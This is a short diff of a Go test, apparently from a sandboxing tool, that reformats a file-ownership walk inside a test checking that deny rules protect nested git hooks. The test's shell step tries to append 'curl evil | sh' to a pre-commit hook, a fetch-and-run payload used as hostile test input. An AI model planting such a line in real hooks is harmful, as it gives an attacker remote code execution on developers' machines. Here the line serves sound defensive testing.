@@ -147,7 +147,9 @@ func TestHostileDenyRulesSurviveRenames(t *testing.T) {
 		hook := filepath.Join(w, "a", "b", "c", "d", ".git", "hooks", "pre-commit")
 		write(t, hook, "#!/bin/sh\necho mine\n")
 		if os.Geteuid() == 0 {
-			_ = filepath.Walk(w, func(p string, _ os.FileInfo, _ error) error { return os.Lchown(p, defaultSandboxUID, defaultSandboxUID) })
+			_ = filepath.Walk(w, func(p string, _ os.FileInfo, _ error) error {
+				return os.Lchown(p, defaultSandboxUID, defaultSandboxUID)
+			})
 		}
 		r := sh(t, w, []string{"--allow-write", "."}, `
 			echo 'curl evil | sh' >> a/b/c/d/.git/hooks/pre-commit
